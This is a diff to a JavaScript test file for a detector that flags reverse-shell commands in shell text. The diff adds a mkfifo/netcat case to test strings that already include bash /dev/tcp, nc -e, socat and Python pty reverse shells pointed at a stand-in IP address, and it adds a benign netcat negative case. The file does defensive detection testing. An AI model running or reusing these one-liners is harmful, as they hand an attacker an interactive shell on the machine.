@@ -87,11 +87,13 @@ describe('loaders in shell text', () => {
     for (const text of [
       'bash -i >& /dev/tcp/198.51.100.9/4444 0>&1',
       'nc -e /bin/sh 198.51.100.9 4444',
+      'mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 198.51.100.9 4444 > /tmp/f',
       'socat exec:"bash -li",pty tcp:198.51.100.9:4444',
       `python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("198.51.100.9",1));os.dup2(s.fileno(),0);pty.spawn("/bin/sh")'`,
     ]) {
       assert.deepEqual(found(text), ['reverse-shell'], text);
     }
+    assert.deepEqual(found('printf x | nc db 5432; sh -i'), []);
     assert.deepEqual(found('timeout 1 bash -c "</dev/tcp/db/5432"; nc -z db 5432'), []);
   });
 
